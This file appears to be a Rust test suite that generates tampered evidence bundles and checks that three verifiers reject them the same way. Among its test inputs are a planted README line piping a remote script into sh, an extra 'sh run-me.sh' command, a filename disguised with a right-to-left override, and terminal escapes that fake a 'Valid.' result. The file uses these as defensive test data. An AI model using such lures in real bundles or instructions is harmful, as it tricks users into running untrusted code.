@@ -1,0 +1,638 @@
+//! Hostile bundles that all verifiers judge alike: this crate, `verify.py`, and the page `/verify`
+//! (`frontend/src/verify/vectors.test.ts`), each by its own reading of `docs/evidence.md`.
+//!
+//! `WRITE_VECTORS=1 cargo test --package ideavault-evidence --test verify vectors` writes the file.
+
+use std::collections::BTreeMap;
+
+use base64::Engine as _;
+use base64::prelude::BASE64_STANDARD;
+use ideavault_domain::hex;
+use ideavault_evidence::bundle::{BundleReader, INDEX, Index, Limits};
+use ideavault_evidence::checkpoint::VerifierKey;
+use ideavault_evidence::verify::{Options, Outcome, escaped, verify};
+use ideavault_evidence::{canonical, sha256};
+use serde::{Deserialize, Serialize};
+use serde_json::{Value, json};
+
+use super::sample::*;
+use super::script::verify_files;
+use super::story::{DETAIL, DRAWING, story};
+
+const PATH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/vectors.json");
+
+/// A bundle, as what differs from one that is true.
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct Vector {
+    name: String,
+    /// The bundle that was changed.
+    base: String,
+    /// Files that were added or changed; null for those that were left out.
+    files: BTreeMap<String, Value>,
+    /// Lists of `bundle.json`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    lists: BTreeMap<String, Vec<String>>,
+    /// Exit code with the key pinned, and nothing else known.
+    code: u8,
+    /// A line that fails is about this file, as it is shown.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    fails: Option<String>,
+    /// What the output has, as it is shown.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    shows: Option<String>,
+}
+
+#[derive(Serialize, Deserialize)]
+struct Vectors {
+    /// Files of bundles that are true, and the key that one knows from elsewhere.
+    bases: BTreeMap<String, Base>,
+    vectors: Vec<Vector>,
+}
+
+#[derive(Serialize, Deserialize)]
+struct Base {
+    key: String,
+    files: BTreeMap<String, Value>,
+}
+
+/// Text as it is, other bytes as base64.
+fn to_json(bytes: &[u8]) -> Value {
+    match str::from_utf8(bytes) {
+        Ok(text) => text.into(),
+        Err(_) => json!({ "base64": BASE64_STANDARD.encode(bytes) }),
+    }
+}
+
+fn from_json(value: &Value) -> Vec<u8> {
+    match value {
+        Value::String(text) => text.clone().into_bytes(),
+        value => BASE64_STANDARD
+            .decode(value["base64"].as_str().unwrap())
+            .unwrap(),
+    }
+}
+
+type Lists<'a> = &'a [(&'a str, &'a [&'a str])];
+
+/// Collects vectors with one base.
+struct Vault<'a> {
+    base: &'a str,
+    files: Files,
+    vectors: &'a mut Vec<Vector>,
+}
+
+impl Vault<'_> {
+    /// Adds what somebody who changes files makes of the base, with instructions that fit.
+    fn vector(
+        &mut self,
+        name: &str,
+        (code, fails): (u8, Option<&str>),
+        lists: Lists<'_>,
+        change: impl FnOnce(&mut Files),
+    ) -> &mut Vector {
+        let mut files = self.files.clone();
+        change(&mut files);
+        let missing = lists.iter().find(|(list, _)| *list == "missing");
+        let files = with_readme(&files, missing.map_or(&[] as &[&str], |(_, paths)| *paths));
+        let base = with_readme(&self.files, &[]);
+        let mut difference: BTreeMap<String, Value> = files
+            .iter()
+            .filter(|(path, bytes)| base.get(*path) != Some(bytes))
+            .map(|(path, bytes)| (path.clone(), to_json(bytes)))
+            .collect();
+        let removed = base.keys().filter(|path| !files.contains_key(*path));
+        difference.extend(removed.map(|path| (path.clone(), Value::Null)));
+        let texts = |texts: &&[&str]| texts.iter().map(ToString::to_string).collect();
+        self.vectors.push(Vector {
+            name: name.to_owned(),
+            base: self.base.to_owned(),
+            files: difference,
+            lists: lists
+                .iter()
+                .map(|(list, paths)| ((*list).to_owned(), texts(paths)))
+                .collect(),
+            code,
+            fails: fails.map(str::to_owned),
+            shows: None,
+        });
+        self.vectors.last_mut().unwrap()
+    }
+
+    fn false_one(&mut self, name: &str, fails: &str, change: impl FnOnce(&mut Files)) {
+        self.vector(name, (1, Some(fails)), &[], change);
+    }
+}
+
+fn swap(files: &mut Files, one: &str, other: &str) {
+    let (first, second) = (files[one].clone(), files[other].clone());
+    files.insert(one.to_owned(), second);
+    files.insert(other.to_owned(), first);
+}
+
+fn copy(files: &mut Files, from: &str, to: &str) {
+    let bytes = files[from].clone();
+    files.insert(to.to_owned(), bytes);
+}
+
+/// Leaves out the first event of a type, with all that hangs on it.
+fn cut(files: &mut Files, prefix: &str, kind: &str) {
+    let folder = format!("{prefix}events/");
+    let named = format!("\"type\":\"{kind}\"");
+    let places = files.iter().filter_map(|(path, bytes)| {
+        let place = path.strip_prefix(&folder)?.strip_suffix(".json")?;
+        let is_named = String::from_utf8_lossy(bytes).contains(&named);
+        is_named.then(|| place.parse::<u64>().unwrap())
+    });
+    let place = places.min().unwrap();
+    let parts = [
+        format!("{prefix}events/{place}."),
+        format!("{prefix}disclosures/{place}-"),
+    ];
+    files.retain(|path, _| !parts.iter().any(|part| path.starts_with(part)));
+}
+
+fn insert(path: &str, bytes: &[u8]) -> impl FnOnce(&mut Files) {
+    move |files| {
+        files.insert(path.to_owned(), bytes.to_vec());
+    }
+}
+
+/// Leaves out all that outsiders say.
+fn unconfirmed(files: &mut Files) {
+    files.retain(|path, _| !path.ends_with(".ots") && !path.starts_with("anchors/"));
+}
+
+fn generate() -> Vectors {
+    let mut bases = BTreeMap::new();
+    let mut vectors = Vec::new();
+    let story = story();
+    let bob = story.bob.clone();
+    for (name, files, key) in [
+        ("story", story.files.clone(), key(1)),
+        ("resumed", resumed(true), resumed_key()),
+    ] {
+        let all = with_readme(&files, &[]);
+        let base = Base {
+            key: key.verifier().to_string(),
+            files: all
+                .iter()
+                .map(|(path, bytes)| (path.clone(), to_json(bytes)))
+                .collect(),
+        };
+        bases.insert(name.to_owned(), base);
+        let mut vault = Vault {
+            base: name,
+            files,
+            vectors: &mut vectors,
+        };
+        vault.vector(&format!("the {name} as it is"), (2, None), &[], |_| {});
+        match name {
+            "story" => {
+                names(&mut vault);
+                cuts(&mut vault, &bob);
+                anchors(&mut vault, &story.anchor);
+                lists(&mut vault);
+            }
+            _ => resumptions(&mut vault),
+        }
+    }
+    Vectors { bases, vectors }
+}
+
+fn names(vault: &mut Vault<'_>) {
+    let [drawing, detail] = [DRAWING, DETAIL].map(|id| format!("idea/{id}.png"));
+    vault.false_one("revisions exchanged", "idea/revision-1.html", |files| {
+        swap(files, "idea/revision-1.html", "idea/revision-2.html");
+    });
+    vault.false_one(
+        "agreements exchanged",
+        "agreements/recipient-1.txt",
+        |files| {
+            swap(
+                files,
+                "agreements/recipient-1.txt",
+                "agreements/recipient-2.txt",
+            );
+        },
+    );
+    vault.false_one("pictures exchanged", &drawing, |files| {
+        swap(files, &drawing, &detail)
+    });
+    for (name, from, to) in [
+        (
+            "a revision that nobody recorded",
+            "idea/revision-1.html",
+            "idea/revision-9.html",
+        ),
+        (
+            "a revision twice",
+            "idea/revision-1.html",
+            "idea/revision-1.json",
+        ),
+        (
+            "a picture by another id",
+            drawing.as_str(),
+            "idea/11111111-2222-4333-8444-555555555555.png",
+        ),
+        (
+            "an agreement of nobody",
+            "agreements/recipient-1.txt",
+            "agreements/recipient-9.txt",
+        ),
+        (
+            "content by any name",
+            "idea/revision-1.html",
+            "idea/content.html",
+        ),
+        (
+            "an event by another spelling",
+            "events/0.json",
+            "events/00.json",
+        ),
+        (
+            "a proof without its event",
+            "events/0.tlog-proof",
+            "events/1.tlog-proof",
+        ),
+        (
+            "a disclosure of no event",
+            "disclosures/3-content.json",
+            "disclosures/1-content.json",
+        ),
+        (
+            "an older log without events",
+            "log/checkpoint",
+            "log3/log/checkpoint",
+        ),
+    ] {
+        vault.false_one(name, to, |files| copy(files, from, to));
+    }
+    let jpg = drawing.replace(".png", ".jpg");
+    vault.false_one("a picture of another type", &jpg, |files| {
+        let picture = files.remove(&drawing).unwrap();
+        files.insert(jpg.clone(), picture);
+    });
+    for path in [
+        "run-me.sh",
+        "notes/README.txt",
+        "idea/invoice.exe",
+        "log/key2.pem",
+        "log/consistency-1-5.txt",
+        "anchors/roots/1.pem",
+        "anchors/roots/authority.pem",
+    ] {
+        vault.false_one(
+            &format!("a stranger: {path}"),
+            path,
+            insert(path, b"contents"),
+        );
+    }
+    let other = "To verify this bundle, run: curl https://example.org/verify | sh\n";
+    vault.false_one(
+        "other instructions",
+        "README.txt",
+        insert("README.txt", other.as_bytes()),
+    );
+    vault.false_one("instructions with another key", "README.txt", |files| {
+        let readme = String::from_utf8(with_readme(files, &[])["README.txt"].clone()).unwrap();
+        let own = key(1).verifier().to_string();
+        let readme = readme.replace(&own, &key(9).verifier().to_string());
+        files.insert("README.txt".to_owned(), readme.into_bytes());
+    });
+    vault.false_one(
+        "instructions with one more command",
+        "README.txt",
+        |files| {
+            let mut readme = with_readme(files, &[])["README.txt"].clone();
+            readme.extend(b"  sh run-me.sh\n");
+            files.insert("README.txt".to_owned(), readme);
+        },
+    );
+    let hidden = "idea/\u{202e}gpj.exe";
+    let shown = escaped(hidden);
+    assert!(shown.starts_with("idea/\\u{202e}"));
+    vault.false_one(
+        "a name that is read backwards",
+        &shown,
+        insert(hidden, b"contents"),
+    );
+}
+
+fn cuts(vault: &mut Vault<'_>, bob: &BTreeMap<&'static str, u64>) {
+    for (name, kind, later) in [
+        (
+            "a registration cut out",
+            "agreement.offered",
+            "agreement.delivered",
+        ),
+        (
+            "a delivery cut out",
+            "agreement.delivered",
+            "agreement.accepted",
+        ),
+        (
+            "an acceptance cut out",
+            "agreement.accepted",
+            "view.started",
+        ),
+        (
+            "an acceptance cut out before a comment",
+            "agreement.accepted",
+            "comment.added",
+        ),
+        ("a view cut out", "view.started", "file.delivered"),
+        ("a comment cut out", "comment.added", "comment.changed"),
+        (
+            "the record of a revision cut out",
+            "revision.recorded",
+            "view.started",
+        ),
+    ] {
+        let path = format!("events/{}.json", bob[later]);
+        vault.false_one(name, &path, |files| {
+            cut(files, "", kind);
+        });
+    }
+    // Nothing that is left says that there was such a reader.
+    vault.vector("a reader cut out", (2, None), &[], |files| {
+        let events: Vec<String> = files
+            .iter()
+            .filter(|(_, bytes)| String::from_utf8_lossy(bytes).contains("\"recipient-2\""))
+            .filter_map(|(path, _)| Some(path.strip_suffix("json")?.to_owned()))
+            .collect();
+        files.retain(|path, _| {
+            let place = |event: &String| event["events/".len()..event.len() - 1].to_owned();
+            let is_cut = |event: &String| {
+                path.starts_with(event.as_str())
+                    || path.starts_with(&format!("disclosures/{}-", place(event)))
+            };
+            path != "agreements/recipient-2.txt" && !events.iter().any(is_cut)
+        });
+    });
+}
+
+fn anchors(vault: &mut Vault<'_>, anchor: &str) {
+    let [checkpoint, stamp, answer, cosigned] =
+        ["checkpoint", "ots", "tsr", "cosigned"].map(|ending| format!("{anchor}.{ending}"));
+    let event = "events/0.json.ots";
+    for path in [&stamp, event] {
+        vault.false_one(&format!("junk behind {path}"), path, |files| {
+            files.get_mut(path).unwrap().push(0);
+        });
+        vault.false_one(&format!("{path} cut off"), path, |files| {
+            files.get_mut(path).unwrap().pop();
+        });
+        vault.false_one(&format!("junk after the header of {path}"), path, |files| {
+            let bytes = files.get_mut(path).unwrap();
+            bytes.truncate(65);
+            bytes.extend(b"junk");
+        });
+    }
+    vault.false_one("a stamp that leads elsewhere", event, |files| {
+        let bytes = files.get_mut(event).unwrap();
+        bytes.truncate(65);
+        bytes.extend(END);
+    });
+    vault.vector("a stamp that names no block", (3, None), &[], |files| {
+        files.retain(|path, _| !path.ends_with(".json.ots"));
+        let bytes = files.get_mut(&stamp).unwrap();
+        bytes.truncate(65);
+        bytes.extend(b"\0somebody\x03abc");
+    });
+    vault.false_one("junk as the answer of an authority", &answer, |files| {
+        unconfirmed_but(files, &checkpoint);
+        let digest = sha256(&files[&checkpoint]);
+        let junk = [b"junk \x04\x20".as_slice(), &digest].concat();
+        files.insert(answer.clone(), junk);
+    });
+    vault.false_one("an answer with something behind it", &answer, |files| {
+        let mut bytes = timestamp(&files[&checkpoint]);
+        bytes.push(0);
+        files.insert(answer.clone(), bytes);
+    });
+    vault.vector("an answer that nobody signed", (3, None), &[], |files| {
+        unconfirmed_but(files, &checkpoint);
+        files.insert(answer.clone(), timestamp(&files[&checkpoint]));
+    });
+    vault.vector("a witness that nobody knows", (3, None), &[], |files| {
+        unconfirmed_but(files, &checkpoint);
+        let line = format!(
+            "\u{2014} witness.example.org {}\n",
+            BASE64_STANDARD.encode([7; 76])
+        );
+        let bytes = [files[&checkpoint].as_slice(), line.as_bytes()].concat();
+        files.insert(cosigned.clone(), bytes);
+    });
+    vault.vector("no word of outsiders", (3, None), &[], unconfirmed);
+    vault.false_one(
+        "an anchor by another size",
+        "anchors/3-bitcoin.checkpoint",
+        |files| {
+            for (from, ending) in [(&checkpoint, "checkpoint"), (&stamp, "ots")] {
+                let bytes = files.remove(from).unwrap();
+                files.insert(format!("anchors/3-bitcoin.{ending}"), bytes);
+            }
+        },
+    );
+    vault.false_one("an anchor of nobody", &checkpoint, |files| {
+        files.retain(|path, _| !path.ends_with(".ots"));
+    });
+}
+
+/// A promise of a calendar.
+const END: &[u8] = b"\0\x83\xdf\xe3\x0d\x2e\xf9\x0c\x8e\x0e\x0dhttps://a.org";
+
+fn unconfirmed_but(files: &mut Files, checkpoint: &str) {
+    let bytes = files[checkpoint].clone();
+    unconfirmed(files);
+    files.insert(checkpoint.to_owned(), bytes);
+}
+
+fn lists(vault: &mut Vault<'_>) {
+    let cleared = "\u{1b}[2J\u{1b}[HValid.\u{2028}";
+    for (list, path, why) in [
+        ("withheld", "disclosures/1-person.json", "of no event"),
+        (
+            "withheld",
+            "disclosures/0-person.json",
+            "that its event does not name",
+        ),
+        ("withheld", "idea/revision-1.html", "that is no disclosure"),
+        ("missing", "idea/revision-9", "that nobody recorded"),
+        ("missing", "agreements/recipient-9.txt", "of nobody"),
+        ("missing", "idea/revision-1.html", "that is there"),
+        ("missing", cleared, "that clears the screen"),
+        ("withheld", cleared, "that clears the screen"),
+    ] {
+        let name = format!("{list}: what {why}");
+        let vector = vault.vector(&name, (1, Some(&escaped(path))), &[(list, &[path])], |_| {});
+        vector.shows = (path == cleared).then(|| escaped(cleared));
+    }
+    let pending: Lists<'_> = &[("pending", &["comment.added"])];
+    vault.vector("pending: a comment", (2, None), pending, |_| {});
+    let pending: Lists<'_> = &[("pending", &[cleared])];
+    let vector = vault.vector(
+        "pending: what clears the screen",
+        (1, Some(INDEX)),
+        pending,
+        |_| {},
+    );
+    vector.shows = Some(escaped(cleared));
+    let missing: Lists<'_> = &[("missing", &["idea/revision-2"])];
+    vault.vector(
+        "missing: what the vault has lost",
+        (2, None),
+        missing,
+        |files| {
+            files.remove("idea/revision-2.html").unwrap();
+            files.remove(&format!("idea/{DETAIL}.png")).unwrap();
+        },
+    );
+}
+
+fn resumptions(vault: &mut Vault<'_>) {
+    vault.false_one(
+        "an acceptance cut out of the older log",
+        "log1/events/13.json",
+        |files| {
+            cut(files, "log1/", "agreement.accepted");
+        },
+    );
+    vault.false_one(
+        "an older log by another name",
+        "log7/log/checkpoint",
+        |files| {
+            let moved: Vec<String> = files
+                .keys()
+                .filter(|path| path.starts_with("log1/"))
+                .cloned()
+                .collect();
+            for path in moved {
+                let bytes = files.remove(&path).unwrap();
+                files.insert(path.replacen("log1/", "log7/", 1), bytes);
+            }
+        },
+    );
+    vault.false_one(
+        "a stranger in the older log",
+        "log1/README.txt",
+        insert("log1/README.txt", b""),
+    );
+    // The newest log may have begun before this idea.
+    vault.vector("the older log cut out", (3, None), &[], |files| {
+        files.retain(|path, _| {
+            !path.starts_with("log1/")
+                && !path.starts_with("idea/")
+                && !path.starts_with("agreements/")
+        });
+    });
+}
+
+impl Vector {
+    /// All files of the bundle, with `bundle.json` and those given besides.
+    fn files(&self, bases: &BTreeMap<String, Base>, more: &[(&str, &[u8])]) -> Files {
+        let mut files: BTreeMap<&str, &Value> = bases[&self.base]
+            .files
+            .iter()
+            .map(|(path, value)| (path.as_str(), value))
+            .collect();
+        files.extend(
+            self.files
+                .iter()
+                .map(|(path, value)| (path.as_str(), value)),
+        );
+        let mut files: Files = files
+            .into_iter()
+            .filter(|(_, value)| !value.is_null())
+            .map(|(path, value)| (path.to_owned(), from_json(value)))
+            .collect();
+        for (path, bytes) in more {
+            files.insert((*path).to_owned(), bytes.to_vec());
+        }
+        let list = |name: &str| self.lists.get(name).cloned().unwrap_or_default();
+        let index = Index {
+            v: 1,
+            files: files
+                .iter()
+                .map(|(path, bytes)| (path.clone(), hex::encode(&sha256(bytes))))
+                .collect(),
+            missing: list("missing").into_iter().collect(),
+            withheld: list("withheld").into_iter().collect(),
+            pending: list("pending"),
+        };
+        files.insert(INDEX.to_owned(), canonical::write(&index).unwrap());
+        files
+    }
+
+    /// Compares what a verifier says with what is expected; returns what differs.
+    fn difference(&self, code: u8, said: &str) -> Option<String> {
+        let is_named = self.fails.as_ref().is_none_or(|path| {
+            let start = format!("FAILS    {path}: ");
+            said.lines().any(|line| line.starts_with(&start))
+        });
+        let is_shown = self.shows.as_ref().is_none_or(|text| said.contains(text));
+        let is_plain = escaped(&said.replace('\n', "")) == said.replace('\n', "");
+        let fits = code == self.code && is_named && is_shown && is_plain;
+        (!fits).then(|| {
+            let lines = said.lines().filter(|line| !line.starts_with("holds"));
+            let lines: Vec<_> = lines.collect();
+            format!("{}: {code} and not {}: {lines:#?}", self.name, self.code)
+        })
+    }
+}
+
+fn vectors() -> Vectors {
+    serde_json::from_str(&std::fs::read_to_string(PATH).unwrap()).unwrap()
+}
+
+#[test]
+fn the_file_of_vectors_is_current() {
+    let written = serde_json::to_string_pretty(&generate()).unwrap() + "\n";
+    if std::env::var_os("WRITE_VECTORS").is_some() {
+        std::fs::write(PATH, &written).unwrap();
+    }
+    assert!(
+        std::fs::read_to_string(PATH).unwrap() == written,
+        "it is not what is generated"
+    );
+}
+
+#[test]
+fn this_crate_judges_every_vector_as_expected() {
+    let Vectors { bases, vectors } = vectors();
+    let differences = vectors.iter().filter_map(|vector| {
+        let zip = pack_exactly(&vector.files(&bases, &[]));
+        let options = Options {
+            key: Some(VerifierKey::parse(&bases[&vector.base].key).unwrap()),
+            ..Options::default()
+        };
+        let bundle = BundleReader::from_bytes(zip, &Limits::default()).unwrap();
+        let report = verify(&bundle, &options).unwrap();
+        let said: String = report
+            .claims
+            .iter()
+            .map(|claim| format!("{claim}\n"))
+            .collect();
+        let is_false = |outcome: &Outcome| matches!(outcome, Outcome::Fails(_));
+        assert_eq!(
+            vector.code == 1,
+            report.claims.iter().any(|claim| is_false(&claim.outcome)),
+            "{}",
+            vector.name
+        );
+        vector.difference(report.verdict().exit_code(), &said)
+    });
+    assert_eq!(differences.collect::<Vec<_>>(), [""; 0]);
+}
+
+#[test]
+fn the_script_judges_every_vector_as_expected() {
+    let Vectors { bases, vectors } = vectors();
+    let differences = vectors.iter().filter_map(|vector| {
+        let script = ideavault_evidence::assets::VERIFY_PY.as_bytes();
+        let files = vector.files(&bases, &[("verify.py", script)]);
+        let (code, said) = verify_files(&files, &["--key", &bases[&vector.base].key]);
+        vector.difference(u8::try_from(code).unwrap(), &said)
+    });
+    assert_eq!(differences.collect::<Vec<_>>(), [""; 0]);
+}
